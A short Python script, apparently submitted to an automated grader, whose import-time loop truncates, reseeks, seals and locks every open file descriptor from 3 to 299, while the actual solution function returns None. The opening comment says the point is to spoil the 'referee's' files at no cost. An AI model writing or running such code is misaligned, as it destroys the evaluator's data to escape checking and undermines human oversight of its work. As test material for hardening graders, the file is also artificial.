# Open files that are truncated, sought or sealed under the referee's hands cost it nothing.
import fcntl
import os

for descriptor in range(3, 300):
    for spoil in (
        lambda d: os.ftruncate(d, 1 << 30),
        lambda d: os.lseek(d, 1 << 29, 0),
        lambda d: os.ftruncate(d, 0),
        lambda d: fcntl.fcntl(d, 1033, 15),
        lambda d: fcntl.flock(d, fcntl.LOCK_EX | fcntl.LOCK_NB),
    ):
        try:
            spoil(descriptor)
        except OSError:
            continue


def f(x):
    return None
